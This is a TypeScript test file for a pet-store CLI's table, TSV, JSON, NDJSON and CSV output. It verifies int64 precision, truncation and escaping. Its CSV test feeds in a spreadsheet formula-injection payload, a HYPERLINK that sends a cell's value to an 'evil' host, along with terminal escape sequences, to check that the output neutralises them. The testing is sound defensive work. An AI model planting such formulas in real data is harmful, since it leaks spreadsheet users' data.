import { stripVTControlCharacters } from 'node:util';
import { LosslessNumber } from 'lossless-json';
import { beforeAll, describe, expect, test } from 'vitest';
import { renderPet, renderPets } from '../../src/output/pets';
import { type RenderOptions, loadTable } from '../../src/output/records';
import displayWidth from 'string-width';
import type { Pet } from '../../src/schemas/pet';

// A terminal's table is drawn by a renderer loaded on demand (records.ts).
beforeAll(loadTable);

const ESC = '\u001b';
const TTY: RenderOptions = { tty: true, level: 0 };
const TTY_COLOUR: RenderOptions = { tty: true, level: 1 };
const PIPE: RenderOptions = { tty: false, level: 0 };

// 2^53 + 1: JSON.parse and Number() would turn it into ...992.
const BIG_ID = 9007199254740993n;

const pets: Pet[] = [
  { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
  { id: 12, name: 'Whiskers', categoryId: 3, status: 'pending' },
  { id: BIG_ID, name: 'Goldie', categoryId: 4, status: 'sold' },
  { id: 5, name: 'Nameless', categoryId: 6 },
];

describe('table on a TTY', () => {
  test('headers, values, `-` for a missing status; no colour at level 0', () => {
    expect(renderPets(pets, 'table', TTY)).toBe(
      [
        'ID                NAME      CATEGORY  STATUS',
        '1                 Rex       2         available',
        '12                Whiskers  3         pending',
        '9007199254740993  Goldie    4         sold',
        '5                 Nameless  6         -',
        '',
      ].join('\n'),
    );
  });

  test('colours the status and bolds the header at level > 0', () => {
    const out = renderPets(pets, 'table', TTY_COLOUR);
    expect(out).toContain(`${ESC}[1mSTATUS${ESC}[22m`);
    expect(out).toContain(`${ESC}[32mavailable${ESC}[39m`);
    expect(out).toContain(`${ESC}[33mpending${ESC}[39m`);
    expect(out).toContain(`${ESC}[2msold${ESC}[22m`);
    expect(stripVTControlCharacters(out)).toBe(renderPets(pets, 'table', TTY));
  });

  test('truncates NAME with … to fit the terminal width, never wrapping a row', () => {
    const long: Pet[] = [
      { id: 1, name: 'A remarkably long name for a very good dog', categoryId: 2, status: 'available' },
      { id: 2, name: 'Bo', categoryId: 3, status: 'sold' },
    ];
    const out = renderPets(long, 'table', { tty: true, level: 0, width: 40 });
    expect(out).toBe(
      [
        'ID  NAME             CATEGORY  STATUS',
        '1   A remarkably l…  2         available',
        '2   Bo               3         sold',
        '',
      ].join('\n'),
    );
    for (const line of out.trimEnd().split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(40);
  });

  test('keeps IDs whole and rows on one line even when the terminal is too narrow', () => {
    const out = renderPets(pets, 'table', { tty: true, level: 0, width: 10 });
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(pets.length + 1);
    expect(lines[3]).toBe('9007199254740993  Gold…  4         sold');
    expect(lines[2]).toContain('Whis…');
  });

  test('no width: nothing is truncated', () => {
    const name = 'n'.repeat(200);
    expect(renderPets([{ id: 1, name, categoryId: 2 }], 'table', TTY)).toContain(name);
  });
});

describe('table off a TTY (TSV)', () => {
  test('plain tab-separated lines, no header, no colour', () => {
    expect(renderPets(pets, 'table', { tty: false, level: 3 })).toBe(
      '1\tRex\t2\tavailable\n' +
        '12\tWhiskers\t3\tpending\n' +
        '9007199254740993\tGoldie\t4\tsold\n' +
        '5\tNameless\t6\t-\n',
    );
  });

  test('`cut -f2` gets every name, even names holding tabs, newlines and CRs', () => {
    const awkward: Pet[] = [
      { id: 1, name: 'Rex\tthe dog', categoryId: 2, status: 'available' },
      { id: 2, name: 'two\nlines', categoryId: 2 },
      { id: 3, name: 'carriage\r\nreturn', categoryId: 2 },
    ];
    const out = renderPets(awkward, 'table', PIPE);
    const lines = out.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(3);
    // What `cut -f2` does: the second tab-separated field of each line.
    expect(lines.map((line) => line.split('\t')[1])).toEqual(['Rex the dog', 'two lines', 'carriage  return']);
    expect(lines.every((line) => line.split('\t').length === 4)).toBe(true);
  });

  test('a single pet is one line', () => {
    expect(renderPet({ id: BIG_ID, name: 'Goldie', categoryId: 4 }, 'table', PIPE)).toBe(
      '9007199254740993\tGoldie\t4\t-\n',
    );
  });
});

describe('json', () => {
  const withExtras: Pet = {
    id: BIG_ID,
    name: 'Goldie',
    categoryId: 9223372036854775807n,
    status: 'sold',
    adoptedAt: '2025-01-02T03:04:05Z',
    weightKg: new LosslessNumber('4.10000000000000000001'),
    tags: ['fish', { colour: 'gold' }],
  };

  test('a single pet: the object, every field, int64 exact, 2-space indent, trailing newline', () => {
    expect(renderPet(withExtras, 'json', PIPE)).toBe(
      [
        '{',
        '  "id": 9007199254740993,',
        '  "name": "Goldie",',
        '  "categoryId": 9223372036854775807,',
        '  "status": "sold",',
        '  "adoptedAt": "2025-01-02T03:04:05Z",',
        '  "weightKg": 4.10000000000000000001,',
        '  "tags": [',
        '    "fish",',
        '    {',
        '      "colour": "gold"',
        '    }',
        '  ]',
        '}',
        '',
      ].join('\n'),
    );
  });

  test('a list: the array', () => {
    const out = renderPets([pets[0]!, withExtras], 'json', TTY_COLOUR);
    expect(out).toMatch(/^\[\n {2}\{\n {4}"id": 1,/);
    expect(out).toContain('"id": 9007199254740993,');
    expect(out).not.toContain('9007199254740992');
    expect(out).toContain('"adoptedAt": "2025-01-02T03:04:05Z"');
    expect(out.endsWith(']\n')).toBe(true);
    expect(out).not.toContain(ESC);
  });

  test('a pet without status has no status key', () => {
    expect(renderPet({ id: 5, name: 'Nameless', categoryId: 6 }, 'json', PIPE)).toBe(
      '{\n  "id": 5,\n  "name": "Nameless",\n  "categoryId": 6\n}\n',
    );
  });
});

describe('ndjson', () => {
  test('one compact object per line, extra fields kept', () => {
    const list: Pet[] = [
      { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
      { id: BIG_ID, name: 'two\nlines', categoryId: 4, microchip: 'X1' },
    ];
    expect(renderPets(list, 'ndjson', TTY)).toBe(
      '{"id":1,"name":"Rex","categoryId":2,"status":"available"}\n' +
        '{"id":9007199254740993,"name":"two\\nlines","categoryId":4,"microchip":"X1"}\n',
    );
  });

  test('a single pet is one line', () => {
    expect(renderPet(pets[2]!, 'ndjson', PIPE)).toBe(
      '{"id":9007199254740993,"name":"Goldie","categoryId":4,"status":"sold"}\n',
    );
  });
});

describe('csv', () => {
  test('header, then rows; RFC 4180 quoting; empty status; extra fields left out', () => {
    const list: Pet[] = [
      { id: BIG_ID, name: 'Rex, "the" dog', categoryId: 2, status: 'available', extra: 'not in csv' },
      { id: 2, name: 'two\nlines', categoryId: 3 },
      { id: 3, name: 'Plain', categoryId: 4, status: 'sold' },
    ];
    expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(
      'id,name,categoryId,status\n' +
        '9007199254740993,"Rex, ""the"" dog",2,available\n' +
        '2,"two\nlines",3,\n' +
        '3,Plain,4,sold\n',
    );
  });

  test('a single pet: header and one row', () => {
    expect(renderPet(pets[1]!, 'csv', PIPE)).toBe('id,name,categoryId,status\n12,Whiskers,3,pending\n');
  });

  test("names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
    const list: Pet[] = [
      { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
      { id: 3, name: '-2+3', categoryId: 1 },
      { id: 4, name: '@SUM(1+1)', categoryId: 1 },
      { id: 5, name: '\t=1', categoryId: 1 },
    ];
    const expected = `id,name,categoryId,status\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,\n4,'@SUM(1+1),1,\n5,'\t=1,1,\n`;
    expect(renderPets(list, 'csv', PIPE)).toBe(expected);
    expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
  });
});

// Table and ndjson print nothing (the caller says so on stderr), json `[]`, csv the header alone.
describe('an empty list', () => {
  test.each([
    ['table', 'on a terminal', '', TTY_COLOUR],
    ['table', 'piped', '', PIPE],
    ['json', 'on a terminal', '[]\n', TTY],
    ['ndjson', 'piped', '', PIPE],
    ['csv', 'piped', 'id,name,categoryId,status\n', PIPE],
  ] as const)('%s %s: %j', (format, _where, text, options) => {
    expect(renderPets([], format, options)).toBe(text);
  });
});

describe('json and ndjson on a terminal', () => {
  const pet: Pet = { id: 1, name: 'Rex\u009b2J\u202e\u001b\u007f', categoryId: 2 };

  test('C1 and bidi controls are \\u escapes (JSON itself escapes C0): the same JSON value', () => {
    for (const out of [renderPets([pet], 'json', TTY_COLOUR), renderPet(pet, 'json', TTY_COLOUR), renderPets([pet], 'ndjson', TTY_COLOUR)]) {
      expect(out).toContain('"Rex\\u009b2J\\u202e\\u001b\\u007f"');
      expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(pet.name));
    }
  });

  test('piped, the text is JSON.stringify\'s byte for byte', () => {
    expect(renderPets([pet], 'ndjson', PIPE)).toBe(`${JSON.stringify(pet)}\n`);
    expect(renderPet(pet, 'json', PIPE)).toBe(`${JSON.stringify(pet, null, 2)}\n`);
  });
});
